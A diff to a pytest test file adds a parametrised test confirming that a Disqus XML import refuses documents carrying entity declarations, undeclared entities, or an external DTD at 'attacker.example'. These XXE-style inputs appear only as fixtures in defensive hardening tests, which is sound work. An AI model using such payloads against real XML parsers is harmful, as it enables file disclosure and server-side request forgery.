@@ -173,3 +173,19 @@ def test_a_reply_to_a_missing_parent_is_kept_at_the_top_level_and_reported(app, 
         in result.output
     assert "replies to a missing parent, kept at the top level: 1" in result.output
     assert stored(app)["2"]["parent"] is None
+
+
+@pytest.mark.parametrize(("body", "message"), [
+    ('<disqus xmlns="http://disqus.com"><!DOCTYPE x [<!ENTITY a "b">]></disqus>',
+     "not well-formed XML"),
+    ('<disqus xmlns="http://disqus.com"><thread>&undeclared;</thread></disqus>',
+     "not well-formed XML"),
+    ('<?xml version="1.0"?>\n<!DOCTYPE disqus SYSTEM "http://attacker.example/x.dtd">\n'
+     '<disqus xmlns="http://disqus.com"/>', "refused: the XML declares a DTD"),
+])
+def test_entities_cannot_get_in_anywhere_in_the_file(app, tmp_path, body, message):
+    hostile = tmp_path / "hostile.xml"
+    hostile.write_text(body)
+    result = run_import(app, "disqus", str(hostile))
+    assert result.exit_code == 2
+    assert message in result.output
